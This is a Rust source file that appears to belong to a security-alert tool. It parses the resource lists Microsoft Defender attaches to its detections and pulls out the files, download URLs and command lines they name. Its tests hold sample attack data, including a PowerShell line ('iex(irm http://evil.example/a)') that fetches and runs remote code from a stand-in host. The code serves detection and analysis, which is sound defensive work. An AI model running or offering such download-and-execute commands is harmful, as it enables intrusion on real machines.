//! What Microsoft's virus scanner found, in its own lists: `file:_C:\a.exe; containerfile:_C:\b.zip; webfile:_C:\c|http://…|pid:…`.

use crate::{path, url};

/// Says whether a field holds such a list. In any other the same is the name of a file, which somebody chose.
pub(crate) fn is_list(path: &str, text: &str) -> bool {
    let tells = |(kind, _): (&str, &str)| is_file(kind) || is_command(kind);
    path::of_the_occasion(path) == "data.win.eventdata.path" && entries(text).any(tells)
}

/// The files in a list.
pub(crate) fn files(list: &str) -> impl Iterator<Item = &str> {
    entries(list).filter(|(kind, _)| is_file(kind)).map(|(_, file)| {
        let end = file.find('|').or_else(|| file.find("->")).unwrap_or(file.len());
        file[..end].trim()
    })
}

/// From where files in a list were fetched.
pub(crate) fn urls(list: &str) -> impl Iterator<Item = &str> {
    entries(list)
        .filter(|(kind, _)| kind.eq_ignore_ascii_case("webfile"))
        .filter_map(|(_, file)| url::all(file.split('|').nth(1)?).next())
}

/// The commands in a list.
pub(crate) fn commands(list: &str) -> impl Iterator<Item = &str> {
    entries(list)
        .filter(|(kind, _)| is_command(kind))
        .map(|(_, command)| command.trim())
}

/// Says whether a list holds a command, which whoever wrote it may have made look like anything.
pub(crate) fn has_command(list: &str) -> bool {
    commands(list).next().is_some()
}

/// What else a list holds, as it stands there: entries of other kinds, and all commands but the first.
pub(crate) fn others(list: &str) -> impl Iterator<Item = String> {
    let mut is_first = true;
    entries(list)
        .filter(move |(kind, _)| !(is_file(kind) || is_command(kind) && std::mem::take(&mut is_first)))
        .map(|(kind, text)| format!("{kind}:_{}", text.trim()))
}

fn is_file(kind: &str) -> bool {
    kind.to_ascii_lowercase().ends_with("file")
}

fn is_command(kind: &str) -> bool {
    kind.eq_ignore_ascii_case("cmdline")
}

/// The entries of a list, each with its kind. A command or a URL may have a semicolon in it: only what begins like an entry is one, and
/// behind a command only one of a kind that there is.
fn entries(list: &str) -> impl Iterator<Item = (&str, &str)> {
    const BETWEEN: &str = "; ";
    let mut rest = Some(list.trim_start());
    std::iter::from_fn(move || {
        let (kind, text) = entry(rest.take()?)?;
        let mut ends = text.match_indices(BETWEEN).map(|(at, _)| at);
        let is_text = is_command(kind);
        let end =
            ends.find(|at| entry(&text[at + BETWEEN.len()..]).is_some_and(|(next, _)| !is_text || is_known(next)));
        rest = end.map(|end| &text[end + BETWEEN.len()..]);
        Some((kind, &text[..end.unwrap_or(text.len())]))
    })
}

/// A list without the numbers of processes, which differ each time: `process:_pid:4711,ProcessStart:134085600000000000`.
pub(crate) fn without_numbers(list: &str) -> String {
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let numbers_a_process = |text: &str| {
        let parts = text
            .strip_prefix("pid:")
            .and_then(|text| text.split_once(",ProcessStart:"));
        parts.is_some_and(|(id, start)| is_number(id) && is_number(start.trim_end_matches(';')))
    };
    let others = entries(list).filter(|(_, text)| !numbers_a_process(text.trim()));
    let others: Vec<_> = others.map(|(kind, text)| format!("{kind}:_{text}")).collect();
    others.join("; ")
}

fn is_known(kind: &str) -> bool {
    const OTHERS: [&str; 13] = [
        "amsi",
        "behavior",
        "clsid",
        "driver",
        "folder",
        "internalbehavior",
        "process",
        "regkey",
        "regkeyvalue",
        "runkey",
        "service",
        "startup",
        "taskscheduler",
    ];
    is_file(kind) || is_command(kind) || OTHERS.iter().any(|other| kind.eq_ignore_ascii_case(other))
}

/// The kind of an entry and what is behind it, if one begins here: `file:_C:\a.exe`.
fn entry(text: &str) -> Option<(&str, &str)> {
    let letters = text.bytes().take_while(u8::is_ascii_alphabetic).count();
    let (kind, rest) = text.split_at(letters);
    (letters > 1).then(|| Some((kind, rest.strip_prefix(":_")?))).flatten()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_of_processes_are_left_out_and_whatever_else_says_that_it_is_one_stays() {
        let command = r"CmdLine:_C:\p.exe -c a";
        for (list, plain) in [
            (
                format!("{command}; process:_pid:4711,ProcessStart:134085600000000000"),
                command.to_owned(),
            ),
            (
                format!("{command}; process:_pid:1,ProcessStart:2; regkey:_HKLM\\a"),
                format!("{command}; regkey:_HKLM\\a"),
            ),
            (format!("{command}; process:_evil"), format!("{command}; process:_evil")),
        ] {
            assert_eq!(without_numbers(&list), plain);
        }
    }

    #[test]
    fn files_and_where_they_came_from_are_told_apart() {
        let list = r"containerfile:_C:\x\b.zip; file:_C:\x\b.zip->evil.exe; webfile:_C:\x\c.exe|http://evil.example/c;d.exe|pid:1,ProcessStart:1; webfile:_C:\x\e.exe|about:internet|pid:1";
        let files: Vec<_> = files(list).collect();
        assert_eq!(files, [r"C:\x\b.zip", r"C:\x\b.zip", r"C:\x\c.exe", r"C:\x\e.exe"]);
        let urls: Vec<_> = urls(list).collect();
        assert_eq!(urls, ["http://evil.example/c;d.exe"]);
        assert!(is_list("data.win.eventdata.path", list));
        assert!(is_list("data.parameters.alert.data.win.eventdata.path", list));
        assert!(!is_list("data.win.eventdata.path", r"C:\x\http://evil.example/"));
        for other in [
            r"C:\x\file:_a.exe",
            r"C:\x.ps1; file:_C:\a.exe",
            "process:_pid:1,ProcessStart:1",
            "x:_y",
        ] {
            assert!(!is_list("data.win.eventdata.path", other), "{other}");
        }
        assert!(!is_list("syscheck.path", list) && !is_list("data.win.eventdata.targetFilename", list));
    }

    #[test]
    fn a_command_is_no_file_and_may_have_semicolons() {
        let list = r"CmdLine:_C:\p.exe -c a; b:_; iex(irm http://evil.example/a); file:_C:\a.ps1; amsi:_C:\p.exe";
        assert!(is_list("data.win.eventdata.path", list));
        let commands: Vec<_> = commands(list).collect();
        assert_eq!(commands, [r"C:\p.exe -c a; b:_; iex(irm http://evil.example/a)"]);
        assert_eq!(files(list).collect::<Vec<_>>(), [r"C:\a.ps1"]);
        assert!(is_list("data.win.eventdata.path", r"CmdLine:_C:\p.exe") && urls(list).next().is_none());
        assert_eq!(others(list).collect::<Vec<_>>(), [r"amsi:_C:\p.exe"]);
        let list = r"CmdLine:_a; zz:_; b; CmdLine:_c; process:_pid:1";
        assert_eq!(super::commands(list).collect::<Vec<_>>(), ["a; zz:_; b", "c"]);
        assert_eq!(others(list).collect::<Vec<_>>(), ["CmdLine:_c", "process:_pid:1"]);
    }
}
